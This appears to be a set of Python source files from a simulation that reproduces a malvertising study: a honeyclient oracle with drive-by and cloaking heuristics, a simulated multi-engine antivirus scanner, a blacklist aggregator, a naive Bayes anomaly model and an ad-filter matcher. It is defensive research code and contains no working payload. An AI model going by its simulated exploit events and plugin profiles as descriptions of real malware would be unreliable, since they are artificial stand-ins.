* **an anomaly-model score** over the behavioural feature vector;

plus the raw downloads for VirusTotal and the set of domains contacted for
the blacklist tracker.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

from repro.browser import events as ev
from repro.browser.browser import Browser, PageLoad
from repro.browser.downloads import Download
from repro.browser.plugins import vulnerable_profile
from repro.oracles.features import BehaviourFeatures, extract_features
from repro.oracles.model import AnomalyModel, pretrained_driveby_model
from repro.web.dns import DnsResolver
from repro.web.http import HttpClient, HttpResponse, WebServer
from repro.web.url import UrlError, etld_plus_one, parse_url

SANDBOX_DOMAIN = "sandbox.wepawet-internal.net"

DEFAULT_BENIGN_DESTINATIONS = frozenset({"google.com", "bing.com", "yahoo.com"})

MAX_CLICKS = 3


@dataclass
class WepawetReport:
    """The analysis report for one submitted advertisement."""

    sample_id: str
    features: BehaviourFeatures
    suspicious_redirection: bool
    redirection_reasons: tuple[str, ...]
    driveby_heuristic: bool
    heuristic_reasons: tuple[str, ...]
    model_detection: bool
    model_score: float
    downloads: list[Download] = field(default_factory=list)
    contacted_domains: tuple[str, ...] = ()

    @property
    def flagged(self) -> bool:
        return self.suspicious_redirection or self.driveby_heuristic or self.model_detection


class Wepawet:
    """Honeyclient oracle.

    Parameters
    ----------
    client:
        The simulated web's HTTP client — the sandbox origin is mounted on
        it so creative assets resolve against the same world.
    model:
        Anomaly model; defaults to the pretrained drive-by model.
    benign_destinations:
        Popular benign sites; a redirect that *ends* on one of these from an
        ad is a cloaking tell (real users get the exploit, analysts get
        bounced to a search engine).
    """

    def __init__(
        self,
        client: HttpClient,
        resolver: DnsResolver,
        model: Optional[AnomalyModel] = None,
        benign_destinations: frozenset[str] = DEFAULT_BENIGN_DESTINATIONS,
        step_budget: int = 100_000,
    ) -> None:
        self.client = client
        self.resolver = resolver
        self.model = model or pretrained_driveby_model()
        self.benign_destinations = benign_destinations
        # The sample registry is shared per simulated web: several Wepawet
        # instances (e.g. a multi-profile matrix) mount one sandbox server,
        # and whichever instance mounted first must still serve the others'
        # submissions.
        self._samples: dict[str, str] = self._shared_samples(client)
        self._mount_sandbox()
        self.browser = Browser(client, plugin_profile=vulnerable_profile(),
                               step_budget=step_budget)

    @staticmethod
    def _shared_samples(client: HttpClient) -> dict[str, str]:
        registry = getattr(client, "_wepawet_samples", None)
        if registry is None:
            registry = {}
            client._wepawet_samples = registry  # type: ignore[attr-defined]
        return registry

    def _next_sample_id(self) -> str:
        counter = getattr(self.client, "_wepawet_counter", 0) + 1
        self.client._wepawet_counter = counter  # type: ignore[attr-defined]
        return f"wpw-{counter:06d}"

    def _mount_sandbox(self) -> None:
        if not self.resolver.exists(SANDBOX_DOMAIN):
            self.resolver.register(SANDBOX_DOMAIN)
            server = WebServer()
            server.route("/sample/*", self._serve_sample)
            server.route("/harness/*", self._serve_harness)
            self.client.mount(SANDBOX_DOMAIN, server)

    def _serve_sample(self, request) -> HttpResponse:
        html = self._samples.get(request.url.path)
        if html is None:
            return HttpResponse.not_found()
        return HttpResponse.html(html)

    def _serve_harness(self, request) -> HttpResponse:
        # Render the sample the way a publisher page would: inside an
        # iframe.  Link-hijacking behaviour (top.location from a subframe)
        # only manifests under this embedding.
        sample_id = request.url.path.rsplit("/", 1)[-1]
        return HttpResponse.html(
            "<html><body>"
            f'<iframe id="sample" src="http://{SANDBOX_DOMAIN}/sample/{sample_id}">'
            "</iframe></body></html>"
        )

    # -- analysis --------------------------------------------------------------

    def analyze_html(self, html: str) -> WepawetReport:
        """Submit an ad document and analyse its behaviour."""
        sample_id = self._next_sample_id()
        path = f"/sample/{sample_id}"
        self._samples[path] = html
        try:
            load = self.browser.load(f"http://{SANDBOX_DOMAIN}/harness/{sample_id}")
            self._click_links(load)
            return self._build_report(sample_id, load)
        finally:
            del self._samples[path]

    def _click_links(self, load: PageLoad) -> None:
        """Click a bounded number of anchors, as a lured user would."""
        if load.page is None:
            return
        clicked = 0
        for frame in load.page.all_frames():
            for anchor in frame.document.find_all("a"):
                if clicked >= MAX_CLICKS:
                    return
                if anchor.get("href"):
                    self.browser.click(load, frame, anchor)
                    clicked += 1

    def _build_report(self, sample_id: str, load: PageLoad) -> WepawetReport:
        features = extract_features(load)
        redirection_reasons = self._redirection_reasons(load)
        heuristic_reasons = self._heuristic_reasons(load)
        score = self.model.score(features.to_vector())
        model_hit = score > self.model.threshold
        contacted = tuple(
            d for d in load.har.registered_domains()
            if d != etld_plus_one(SANDBOX_DOMAIN)
        )
        return WepawetReport(
            sample_id=sample_id,
            features=features,
            suspicious_redirection=bool(redirection_reasons),
            redirection_reasons=tuple(redirection_reasons),
            driveby_heuristic=bool(heuristic_reasons),
            heuristic_reasons=tuple(heuristic_reasons),
            model_detection=model_hit,
            model_score=score,
            downloads=list(load.downloads),
            contacted_domains=contacted,
        )

    def _redirection_reasons(self, load: PageLoad) -> list[str]:
        reasons = []
        if load.events.count(ev.NX_REDIRECT) > 0:
            reasons.append("redirect_to_nx_domain")
        if any(e.data.get("cross_frame") for e in load.events.of_kind(ev.TOP_NAVIGATION)):
            reasons.append("cross_frame_top_navigation")
        if self._cloaking_bounce(load):
            reasons.append("redirect_to_benign_destination")
        return reasons

    def _cloaking_bounce(self, load: PageLoad) -> bool:
        """Did a redirect chain end on a popular benign site?

        Benign ads link *to advertiser landing pages*; an ad whose active
        redirect lands the visitor on Google/Bing is hiding something.
        """
        for entry in load.har.entries:
            if entry.referer is None:
                continue
            if entry.registered_domain in self.benign_destinations:
                return True
        return False

    def _heuristic_reasons(self, load: PageLoad) -> list[str]:
        reasons = []
        if load.events.count(ev.EXPLOIT_SUCCESS) > 0:
            reasons.append("plugin_exploited")
        else:
            for event in load.events.of_kind(ev.EXPLOIT_ATTEMPT):
                cve = event.data.get("cve", "")
                if self.browser.plugin_profile.attempt_exploit(cve).succeeded:
                    reasons.append("exploit_attempt_on_installed_plugin")
                    break
        if any(d.initiated_by == "exploit" for d in load.downloads):
            reasons.append("silent_executable_drop")
        return reasons
