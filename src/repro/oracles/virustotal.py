"""VirusTotal-style multi-engine scanning (§3.2.3).

Whenever an advertisement made the browser download software, the paper
submitted the file to VirusTotal and used the 51-engine consensus to decide
whether the download was malware or a legitimately required plugin.  The
simulated service runs 51 :class:`~repro.malware.signatures.SignatureDb`
engines with heterogeneous coverage, unpacking support and heuristic
strength, and reports the per-engine labels.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.malware.signatures import SignatureDb
from repro.util.rand import fork

N_ENGINES = 51

# Vendor-ish names for the 51 engines (suffixed to reach the count).
_ENGINE_STEMS = (
    "AegisScan", "BitSentry", "ClamShell", "DeepGuard", "EagleAV", "FortKnox",
    "GateKeeper", "HexWatch", "IronVeil", "JadeScan", "KernelShield",
    "LumenAV", "MalTrap", "NightOwl", "OnyxGuard", "PurePath", "QuickHeal9",
    "RedFlag", "SteelWall", "TotalWatch", "UltraScan", "VirBuster",
    "WardenAV", "XenoScan", "YellowBox", "ZoneTrap",
)


@dataclass
class VTReport:
    """Scan outcome for one submitted file."""

    sha256: str
    n_engines: int
    detections: tuple[str, ...]  # 'Engine:Label' strings

    @property
    def positives(self) -> int:
        return len(self.detections)

    def is_malicious(self, threshold: int = 4) -> bool:
        """Consensus decision: at least ``threshold`` engines flag the file."""
        return self.positives >= threshold


class VirusTotal:
    """A fleet of simulated AV engines."""

    def __init__(self, seed: int = 51, n_engines: int = N_ENGINES) -> None:
        rand = fork(seed, "virustotal")
        self.engines: list[SignatureDb] = []
        for index in range(n_engines):
            stem = _ENGINE_STEMS[index % len(_ENGINE_STEMS)]
            name = stem if index < len(_ENGINE_STEMS) else f"{stem}-{index}"
            self.engines.append(SignatureDb(
                engine_name=name,
                coverage=rand.uniform(0.35, 0.98),
                can_unpack=rand.random() < 0.55,
                heuristic_strength=rand.uniform(0.05, 0.6),
                false_positive_rate=rand.uniform(0.0, 0.004),
            ))
        self._cache: dict[str, VTReport] = {}

    def scan(self, data: bytes) -> VTReport:
        """Scan ``data`` with every engine (memoised per file hash)."""
        import hashlib

        digest = hashlib.sha256(data).hexdigest()
        cached = self._cache.get(digest)
        if cached is not None:
            return cached
        detections = []
        for engine in self.engines:
            label = engine.scan(data)
            if label is not None:
                detections.append(label)
        report = VTReport(digest, len(self.engines), tuple(detections))
        self._cache[digest] = report
        return report
