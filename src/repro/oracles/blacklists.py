"""Blacklist aggregation (§3.2.2).

The paper used a tracker over 49 antivirus/spam/phishing blacklists and,
because individual lists false-positive freely, counted a domain as
malicious only when it appeared on **more than five** lists simultaneously.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Sequence

from repro.datasets.world import Blacklist
from repro.web.url import etld_plus_one


@dataclass
class BlacklistHit:
    """A domain that crossed the threshold."""

    domain: str
    n_lists: int
    list_names: tuple[str, ...]


class BlacklistTracker:
    """Aggregates many blacklist feeds with a threshold."""

    def __init__(self, feeds: Sequence[Blacklist], threshold: int = 5) -> None:
        if threshold < 0:
            raise ValueError("threshold must be non-negative")
        self.feeds = list(feeds)
        self.threshold = threshold
        # Inverted index: domain -> ascending indices of the feeds listing
        # it.  Replaces a scan over all 49 feeds per checked domain with
        # two dict probes; ascending index order preserves the feed-order
        # name lists the scan produced.
        index: dict[str, list[int]] = {}
        for position, feed in enumerate(self.feeds):
            for domain in feed.domains:
                index.setdefault(domain, []).append(position)
        self._index: dict[str, tuple[int, ...]] = {
            domain: tuple(positions) for domain, positions in index.items()
        }

    def listing_count(self, domain: str) -> int:
        """On how many feeds does ``domain`` (or its eTLD+1) appear?"""
        return len(self._listing_names(domain))

    def is_flagged(self, domain: str) -> bool:
        """Paper semantics: flagged iff listed on *more than* ``threshold`` feeds."""
        return self.listing_count(domain) > self.threshold

    def check_domains(self, domains: Iterable[str]) -> list[BlacklistHit]:
        """Check every domain an ad was observed to involve."""
        hits = []
        seen: set[str] = set()
        for domain in domains:
            registered = etld_plus_one(domain)
            if registered in seen:
                continue
            seen.add(registered)
            names = self._listing_names(registered)
            if len(names) > self.threshold:
                hits.append(BlacklistHit(registered, len(names), tuple(names)))
        return hits

    def _listing_names(self, domain: str) -> list[str]:
        domain = domain.lower()
        registered = etld_plus_one(domain)
        exact = self._index.get(domain, ())
        if registered == domain:
            positions: Sequence[int] = exact
        else:
            rolled = self._index.get(registered, ())
            if not exact:
                positions = rolled
            elif not rolled:
                positions = exact
            else:
                positions = sorted(set(exact) | set(rolled))
        return [self.feeds[position].name for position in positions]
