"""Blacklist aggregation (§3.2.2).

The paper used a tracker over 49 antivirus/spam/phishing blacklists and,
because individual lists false-positive freely, counted a domain as
malicious only when it appeared on **more than five** lists simultaneously.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Sequence

from repro.datasets.world import Blacklist
from repro.web.url import etld_plus_one


@dataclass
class BlacklistHit:
    """A domain that crossed the threshold."""

    domain: str
    n_lists: int
    list_names: tuple[str, ...]


class BlacklistTracker:
    """Aggregates many blacklist feeds with a threshold."""

    def __init__(self, feeds: Sequence[Blacklist], threshold: int = 5) -> None:
        if threshold < 0:
            raise ValueError("threshold must be non-negative")
        self.feeds = list(feeds)
        self.threshold = threshold

    def listing_count(self, domain: str) -> int:
        """On how many feeds does ``domain`` (or its eTLD+1) appear?"""
        return len(self._listing_names(domain))

    def is_flagged(self, domain: str) -> bool:
        """Paper semantics: flagged iff listed on *more than* ``threshold`` feeds."""
        return self.listing_count(domain) > self.threshold

    def check_domains(self, domains: Iterable[str]) -> list[BlacklistHit]:
        """Check every domain an ad was observed to involve."""
        hits = []
        seen: set[str] = set()
        for domain in domains:
            registered = etld_plus_one(domain)
            if registered in seen:
                continue
            seen.add(registered)
            names = self._listing_names(registered)
            if len(names) > self.threshold:
                hits.append(BlacklistHit(registered, len(names), tuple(names)))
        return hits

    def _listing_names(self, domain: str) -> list[str]:
        domain = domain.lower()
        registered = etld_plus_one(domain)
        names = []
        for feed in self.feeds:
            if domain in feed.domains or registered in feed.domains:
                names.append(feed.name)
        return names
