"""The behavioural anomaly model ("Model detection" in Table 1).

A from-scratch Gaussian naive Bayes classifier over the behavioural
features.  Wepawet shipped with models fitted on previously-known malicious
behaviour; the equivalent here is :func:`pretrained_driveby_model`, fitted
on a synthetic training set whose malicious half mimics the behaviour of
known drive-by campaigns (fingerprint plugins, decode code at runtime,
stage hidden plugin content) and whose benign half mimics ordinary rich
banners.

The decision threshold is deliberately conservative: in the paper this
component contributed only 3 of 6,601 incidents — it exists to catch
behaviourally-suspicious ads that evade every other signal, not to
re-detect what heuristics already flag.
"""

from __future__ import annotations

import math
from dataclasses import dataclass
from typing import Sequence

from repro.oracles.features import BehaviourFeatures
from repro.util.rand import fork

_VARIANCE_FLOOR = 0.25


@dataclass
class _ClassStats:
    means: list[float]
    variances: list[float]
    prior: float


class AnomalyModel:
    """Gaussian naive Bayes with a log-odds decision threshold."""

    def __init__(self, threshold: float = 40.0) -> None:
        self.threshold = threshold
        self._benign: _ClassStats | None = None
        self._malicious: _ClassStats | None = None

    # -- training ------------------------------------------------------------

    def fit(self, benign: Sequence[Sequence[float]],
            malicious: Sequence[Sequence[float]]) -> "AnomalyModel":
        if not benign or not malicious:
            raise ValueError("both classes need at least one sample")
        total = len(benign) + len(malicious)
        self._benign = self._fit_class(benign, len(benign) / total)
        self._malicious = self._fit_class(malicious, len(malicious) / total)
        return self

    @staticmethod
    def _fit_class(rows: Sequence[Sequence[float]], prior: float) -> _ClassStats:
        n_features = len(rows[0])
        means = [0.0] * n_features
        for row in rows:
            if len(row) != n_features:
                raise ValueError("inconsistent feature dimensionality")
            for j, value in enumerate(row):
                means[j] += value
        means = [m / len(rows) for m in means]
        variances = [0.0] * n_features
        for row in rows:
            for j, value in enumerate(row):
                variances[j] += (value - means[j]) ** 2
        variances = [max(v / len(rows), _VARIANCE_FLOOR) for v in variances]
        return _ClassStats(means, variances, prior)

    # -- inference -------------------------------------------------------------

    def score(self, vector: Sequence[float]) -> float:
        """Log-odds of the malicious class for ``vector``."""
        if self._benign is None or self._malicious is None:
            raise RuntimeError("model is not fitted")
        return (self._log_likelihood(vector, self._malicious)
                - self._log_likelihood(vector, self._benign))

    def predict(self, features: BehaviourFeatures | Sequence[float]) -> bool:
        vector = features.to_vector() if isinstance(features, BehaviourFeatures) else features
        return self.score(vector) > self.threshold

    @staticmethod
    def _log_likelihood(vector: Sequence[float], stats: _ClassStats) -> float:
        total = math.log(stats.prior)
        for value, mean, variance in zip(vector, stats.means, stats.variances):
            total += -0.5 * math.log(2 * math.pi * variance)
            total += -((value - mean) ** 2) / (2 * variance)
        return total


def synthetic_training_set(seed: int = 99,
                           n_per_class: int = 200) -> tuple[list[list[float]], list[list[float]]]:
    """Generate (benign, malicious) training matrices.

    Distributions paraphrase what Wepawet-era drive-by pages looked like
    behaviourally versus ordinary banner ads.  The feature order matches
    :class:`~repro.oracles.features.BehaviourFeatures`.
    """
    rand = fork(seed, "model-training")

    def benign_row() -> list[float]:
        f = BehaviourFeatures()
        f.document_writes = float(rand.randrange(0, 3))
        f.eval_calls = 1.0 if rand.random() < 0.05 else 0.0
        f.eval_source_chars = f.eval_calls * rand.uniform(20, 80)
        f.timers_set = float(rand.randrange(0, 2))
        f.redirect_hops = float(rand.randrange(0, 4))
        f.distinct_domains = float(rand.randrange(1, 5))
        f.flash_downloads = 1.0 if rand.random() < 0.1 else 0.0
        return f.to_vector()

    def malicious_row() -> list[float]:
        f = BehaviourFeatures()
        f.eval_calls = float(rand.randrange(1, 4))
        f.eval_source_chars = rand.uniform(150, 900)
        f.plugin_probes = float(rand.randrange(1, 4))
        f.document_writes = float(rand.randrange(0, 3))
        f.timers_set = float(rand.randrange(0, 3))
        f.hidden_plugin_objects = 1.0 if rand.random() < 0.7 else 0.0
        f.redirect_hops = float(rand.randrange(0, 5))
        f.distinct_domains = float(rand.randrange(2, 7))
        f.flash_downloads = 1.0 if rand.random() < 0.5 else 0.0
        f.script_errors = 1.0 if rand.random() < 0.2 else 0.0
        return f.to_vector()

    benign = [benign_row() for _ in range(n_per_class)]
    malicious = [malicious_row() for _ in range(n_per_class)]
    return benign, malicious


def pretrained_driveby_model(seed: int = 99, threshold: float = 40.0) -> AnomalyModel:
    """The model Wepawet would ship with: fitted on known past behaviour."""
    benign, malicious = synthetic_training_set(seed)
    return AnomalyModel(threshold=threshold).fit(benign, malicious)
