"""ABP filter syntax parser.

Supported syntax (the subset EasyList actually relies on for request
blocking):

* ``||example.com^`` — domain-anchored rules
* ``|http://exact`` / ``pattern|`` — start/end anchors
* ``*`` wildcards and ``^`` separator placeholders
* ``@@`` exception rules
* ``$`` options: resource types (``script``, ``image``, ``subdocument``,
  ``object``, ``stylesheet``, ``document``, ``other``), type negation
  (``~script``), ``third-party``/``~third-party``, and
  ``domain=a.com|~b.com``
* ``!`` comments and ``##`` element-hiding rules are recognised and skipped
  (element hiding is cosmetic; the paper only needed request
  classification).
"""

from __future__ import annotations

from typing import Optional

from repro.filterlists.rules import FilterRule, RESOURCE_TYPES

# Option aliases used in real EasyList.
_TYPE_ALIASES = {
    "xmlhttprequest": "other",
    "subdocument": "subdocument",
    "object-subrequest": "object",
}


class FilterParseError(ValueError):
    """A rule could not be parsed."""


def parse_rule(line: str) -> Optional[FilterRule]:
    """Parse one list line; returns ``None`` for comments/cosmetic/empty lines."""
    raw = line.strip()
    if not raw or raw.startswith("!") or raw.startswith("["):
        return None
    if "##" in raw or "#@#" in raw or "#?#" in raw:
        return None  # element hiding — out of scope
    body = raw
    is_exception = body.startswith("@@")
    if is_exception:
        body = body[2:]

    options_text = ""
    dollar = _find_options_separator(body)
    if dollar != -1:
        body, options_text = body[:dollar], body[dollar + 1:]

    anchor_domain = body.startswith("||")
    if anchor_domain:
        body = body[2:]
    anchor_start = False
    if not anchor_domain and body.startswith("|"):
        anchor_start = True
        body = body[1:]
    anchor_end = body.endswith("|")
    if anchor_end:
        body = body[:-1]
    if not body:
        raise FilterParseError(f"empty pattern in rule: {raw!r}")

    rule = FilterRule(
        raw=raw,
        pattern=body.lower(),
        is_exception=is_exception,
        anchor_domain=anchor_domain,
        anchor_start=anchor_start,
        anchor_end=anchor_end,
    )
    if options_text:
        _apply_options(rule, options_text, raw)
    return rule


def _find_options_separator(body: str) -> int:
    """Find the ``$`` that starts the options, ignoring ``$`` inside the pattern.

    ABP treats the *last* ``$`` as the separator when what follows is
    structurally an options list; a ``$`` followed by anything else (digits,
    symbols) is pattern content.
    """
    idx = body.rfind("$")
    if idx in (-1, 0, len(body) - 1):
        return -1
    tail = body[idx + 1:]
    for option in tail.split(","):
        name = option.strip().lstrip("~").split("=", 1)[0]
        if not name or not all(ch.isalpha() or ch == "-" for ch in name):
            return -1
    return idx


def _apply_options(rule: FilterRule, options_text: str, raw: str) -> None:
    types: set[str] = set()
    negated: set[str] = set()
    include: set[str] = set()
    exclude: set[str] = set()
    for option in options_text.split(","):
        option = option.strip()
        if not option:
            continue
        lowered = option.lower()
        if lowered.startswith("domain="):
            for domain in option[len("domain="):].split("|"):
                domain = domain.strip().lower()
                if not domain:
                    continue
                if domain.startswith("~"):
                    exclude.add(domain[1:])
                else:
                    include.add(domain)
            continue
        if lowered == "third-party":
            rule.third_party = True
            continue
        if lowered == "~third-party":
            rule.third_party = False
            continue
        if lowered in ("match-case", "popup"):
            continue  # accepted but not significant for this pipeline
        negate = lowered.startswith("~")
        type_name = lowered[1:] if negate else lowered
        type_name = _TYPE_ALIASES.get(type_name, type_name)
        if type_name not in RESOURCE_TYPES:
            raise FilterParseError(f"unknown option {option!r} in rule: {raw!r}")
        (negated if negate else types).add(type_name)
    rule.resource_types = frozenset(types)
    rule.negated_types = frozenset(negated)
    rule.include_domains = frozenset(include)
    rule.exclude_domains = frozenset(exclude)


def parse_filter_list(text: str) -> list[FilterRule]:
    """Parse a whole list, skipping comments and unsupported lines."""
    rules = []
    for line in text.splitlines():
        try:
            rule = parse_rule(line)
        except FilterParseError:
            continue  # real ABP also skips rules it cannot parse
        if rule is not None:
            rules.append(rule)
    return rules
