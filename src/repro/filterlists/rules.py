"""Filter rule and request-context data model."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

from repro.web.url import Url, etld_plus_one, parse_url

# Resource types ABP options can constrain.
RESOURCE_TYPES = frozenset(
    {"script", "image", "stylesheet", "subdocument", "object", "document", "other"}
)


@dataclass(frozen=True)
class RequestContext:
    """The request being matched: URL plus page context."""

    url: Url
    page_url: Optional[Url] = None
    resource_type: str = "other"

    @property
    def is_third_party(self) -> bool:
        """Third-party means the request crosses the page's eTLD+1."""
        if self.page_url is None:
            return False
        return self.url.registered_domain != self.page_url.registered_domain

    @classmethod
    def for_url(cls, url: str, page_url: Optional[str] = None,
                resource_type: str = "other") -> "RequestContext":
        return cls(
            url=parse_url(url),
            page_url=parse_url(page_url) if page_url else None,
            resource_type=resource_type,
        )


@dataclass
class FilterRule:
    """One parsed ABP rule.

    ``pattern`` is the body with ``|``/``||`` anchors stripped; anchor and
    option flags live in the other fields.
    """

    raw: str
    pattern: str
    is_exception: bool = False
    anchor_domain: bool = False  # '||' prefix
    anchor_start: bool = False   # '|' prefix
    anchor_end: bool = False     # '|' suffix
    resource_types: frozenset[str] = frozenset()
    negated_types: frozenset[str] = frozenset()
    third_party: Optional[bool] = None
    include_domains: frozenset[str] = frozenset()
    exclude_domains: frozenset[str] = frozenset()

    def applies_to_type(self, resource_type: str) -> bool:
        if self.resource_types and resource_type not in self.resource_types:
            return False
        if self.negated_types and resource_type in self.negated_types:
            return False
        return True

    def applies_to_party(self, context: RequestContext) -> bool:
        if self.third_party is None:
            return True
        return context.is_third_party == self.third_party

    def applies_to_page(self, context: RequestContext) -> bool:
        if not self.include_domains and not self.exclude_domains:
            return True
        if context.page_url is None:
            return not self.include_domains
        page_host = context.page_url.host
        page_domain = etld_plus_one(page_host)
        if self.exclude_domains and _host_in(page_host, page_domain, self.exclude_domains):
            return False
        if self.include_domains:
            return _host_in(page_host, page_domain, self.include_domains)
        return True


def _host_in(host: str, registered: str, domains: frozenset[str]) -> bool:
    for domain in domains:
        if host == domain or host.endswith("." + domain) or registered == domain:
            return True
    return False
