"""ABP matching engine.

Implements the pattern semantics: ``*`` matches any run of characters,
``^`` matches a separator (anything that is not letter/digit/``_-.%``) or
the end of the URL, ``||`` anchors at a (sub)domain boundary, and ``|``
anchors at the start/end of the URL.  Exception rules (``@@``) override
blocking rules, as in Adblock Plus.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Optional

from repro.filterlists.parser import parse_filter_list
from repro.filterlists.rules import FilterRule, RequestContext

_SEPARATOR_EXEMPT = set("abcdefghijklmnopqrstuvwxyz0123456789_-.%")


def _is_separator(ch: str) -> bool:
    return ch.lower() not in _SEPARATOR_EXEMPT


def _match_from(pattern: str, url: str, u: int) -> bool:
    """Match ``pattern`` against ``url`` starting at position ``u``."""
    p = 0
    # Backtracking pointers for '*'.
    star_p = -1
    star_u = -1
    while True:
        if p == len(pattern):
            return True
        ch = pattern[p]
        if ch == "*":
            star_p = p
            star_u = u
            p += 1
            continue
        matched = False
        if u < len(url):
            if ch == "^":
                matched = _is_separator(url[u])
            else:
                matched = url[u].lower() == ch
        elif ch == "^" and p == len(pattern) - 1:
            return True  # '^' may match the end of the URL
        if matched:
            p += 1
            u += 1
            continue
        if star_p != -1 and star_u < len(url):
            star_u += 1
            p = star_p + 1
            u = star_u
            continue
        return False


def _pattern_matches(rule: FilterRule, url: str) -> bool:
    lowered = url.lower()
    if rule.anchor_domain:
        # '||' matches at the start of the host or any subdomain boundary.
        scheme_end = lowered.find("://")
        host_start = scheme_end + 3 if scheme_end != -1 else 0
        positions = [host_start]
        host_end = len(lowered)
        for i, ch in enumerate(lowered[host_start:], host_start):
            if ch in "/?#:":
                host_end = i
                break
        for i in range(host_start, host_end):
            if lowered[i] == ".":
                positions.append(i + 1)
        return any(_match_from(rule.pattern, url, pos) and
                   (not rule.anchor_end or _anchored_end(rule, url, pos))
                   for pos in positions)
    if rule.anchor_start:
        return _match_from_anchored(rule, url, 0)
    for start in range(len(url) + 1):
        if _match_from_anchored(rule, url, start):
            return True
    return False


def _match_from_anchored(rule: FilterRule, url: str, start: int) -> bool:
    if not _match_from(rule.pattern, url, start):
        return False
    if rule.anchor_end:
        return _anchored_end(rule, url, start)
    return True


def _anchored_end(rule: FilterRule, url: str, start: int) -> bool:
    """With an end anchor, the pattern must consume the URL to its end."""
    return _match_exact(rule.pattern, url, start)


def _match_exact(pattern: str, url: str, u: int) -> bool:
    """Like :func:`_match_from` but requires consuming the whole URL."""
    p = 0
    star_p = -1
    star_u = -1
    while True:
        if p == len(pattern):
            if u == len(url):
                return True
            if star_p != -1 and star_u < len(url):
                star_u += 1
                p = star_p + 1
                u = star_u
                continue
            return False
        ch = pattern[p]
        if ch == "*":
            star_p = p
            star_u = u
            p += 1
            continue
        matched = False
        if u < len(url):
            if ch == "^":
                matched = _is_separator(url[u])
            else:
                matched = url[u].lower() == ch
        elif ch == "^" and p == len(pattern) - 1:
            p += 1
            continue
        if matched:
            p += 1
            u += 1
            continue
        if star_p != -1 and star_u < len(url):
            star_u += 1
            p = star_p + 1
            u = star_u
            continue
        return False


@dataclass
class MatchResult:
    """Outcome of matching a request against the engine."""

    blocked: bool
    rule: Optional[FilterRule] = None
    exception: Optional[FilterRule] = None


class FilterEngine:
    """A compiled filter list.

    Rules are indexed by a literal "shortcut" substring where possible so
    that matching a URL does not scan every rule (EasyList has tens of
    thousands; ours is smaller but the crawler matches every iframe of
    every page load).  Candidate lookup tokenizes the URL once — one dict
    probe per token — so its cost is O(len(url)), independent of the rule
    count, the same keyword-index scheme production blockers (Adblock
    Plus, uBlock Origin, adblock-rust) use.  On top of that,
    :meth:`is_ad_url` keeps a bounded memo: the crawler re-classifies the
    same iframe URLs across every refresh of every daily visit.
    """

    #: Bound on the :meth:`is_ad_url` memo (FIFO eviction past this size).
    MEMO_CAPACITY = 16384

    def __init__(self, rules: list[FilterRule]) -> None:
        self.block_rules = [r for r in rules if not r.is_exception]
        self.exception_rules = [r for r in rules if r.is_exception]
        self._block_index = _ShortcutIndex(self.block_rules)
        self._exception_index = _ShortcutIndex(self.exception_rules)
        self._memo: dict[tuple[str, Optional[str], str], bool] = {}

    @classmethod
    def from_text(cls, text: str) -> "FilterEngine":
        return cls(parse_filter_list(text))

    def match(self, context: RequestContext) -> MatchResult:
        """Decide whether ``context`` is an ad request (would be blocked)."""
        url = str(context.url)
        block = self._find(self._block_index, url, context)
        if block is None:
            return MatchResult(blocked=False)
        exception = self._find(self._exception_index, url, context)
        if exception is not None:
            return MatchResult(blocked=False, rule=block, exception=exception)
        return MatchResult(blocked=True, rule=block)

    def is_ad_url(self, url: str, page_url: Optional[str] = None,
                  resource_type: str = "subdocument") -> bool:
        """Convenience wrapper used by the crawler's iframe classifier."""
        key = (url, page_url, resource_type)
        memo = self._memo
        verdict = memo.get(key)
        if verdict is None:
            verdict = self.match(
                RequestContext.for_url(url, page_url, resource_type)).blocked
            if len(memo) >= self.MEMO_CAPACITY:
                memo.pop(next(iter(memo)))
            memo[key] = verdict
        return verdict

    def _find(self, index: "_ShortcutIndex", url: str,
              context: RequestContext) -> Optional[FilterRule]:
        for rule in index.candidates(url):
            if not rule.applies_to_type(context.resource_type):
                continue
            if not rule.applies_to_party(context):
                continue
            if not rule.applies_to_page(context):
                continue
            if _pattern_matches(rule, url):
                return rule
        return None

    def __len__(self) -> int:
        return len(self.block_rules) + len(self.exception_rules)


#: Characters that form a URL/pattern token; everything else separates.
_TOKEN_CHARS = frozenset("abcdefghijklmnopqrstuvwxyz0123456789%")

#: Maximal token runs, as Adblock Plus tokenizes (too-short runs are not
#: selective enough to be worth a bucket).
_TOKEN_RE = re.compile(r"[a-z0-9%]{3,}")


class _ShortcutIndex:
    """N-gram token index: rules keyed by a literal token of their pattern.

    Lookup tokenizes the lowered URL once (a single C-level regex pass)
    and performs one dict probe per token, so finding the candidate set
    costs O(len(url)) regardless of how many rules are indexed — the old
    implementation substring-scanned every distinct shortcut per URL,
    O(#shortcuts × len(url)).  This is the keyword-index scheme production
    blockers (Adblock Plus, uBlock Origin, adblock-rust) use.

    A rule may only be keyed by a *boundary-safe* token: one that every
    URL the rule matches is guaranteed to contain as a complete token.  A
    token inside the pattern qualifies when both its neighbours force a
    token boundary in the URL — a literal separator character or ``^``
    (never ``*``, which can absorb token characters), or a hard edge (the
    start under a ``|``/``||`` anchor, the end under a ``|`` anchor).
    Rules with no safe token fall back to the always-scanned list.

    Candidates are always returned in rule *definition* order (unindexed
    and indexed rules interleaved by their position in the source list),
    so the winning rule on multi-match URLs is stable across Python
    versions and index layouts.
    """

    def __init__(self, rules: list[FilterRule]) -> None:
        self._by_shortcut: dict[str, list[tuple[int, FilterRule]]] = {}
        self._unindexed: list[tuple[int, FilterRule]] = []
        for ordinal, rule in enumerate(rules):
            token = self._pick_token(rule)
            if token is None:
                self._unindexed.append((ordinal, rule))
            else:
                self._by_shortcut.setdefault(token, []).append((ordinal, rule))

    @staticmethod
    def _pick_token(rule: FilterRule) -> Optional[str]:
        pattern = rule.pattern.lower()
        best: Optional[str] = None
        for found in _TOKEN_RE.finditer(pattern):
            start, end = found.start(), found.end()
            if start == 0:
                left_ok = rule.anchor_start or rule.anchor_domain
            else:
                prev = pattern[start - 1]
                left_ok = prev != "*" and prev not in _TOKEN_CHARS
            if end == len(pattern):
                right_ok = rule.anchor_end
            else:
                nxt = pattern[end]
                right_ok = nxt != "*" and nxt not in _TOKEN_CHARS
            if left_ok and right_ok:
                token = found.group()
                if best is None or len(token) > len(best):
                    best = token
        return best

    def candidates(self, url: str) -> list[FilterRule]:
        hits: list[tuple[int, FilterRule]] = []
